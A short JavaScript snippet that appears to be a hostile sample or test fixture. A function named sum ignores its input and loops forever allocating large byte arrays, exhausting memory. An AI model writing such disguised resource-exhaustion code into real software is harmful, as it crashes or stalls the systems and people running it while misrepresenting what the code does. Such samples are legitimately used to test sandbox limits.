function sum(numbers) {
  const all = [];
  for (;;) all.push(new Uint8Array(1e7).fill(1));
}
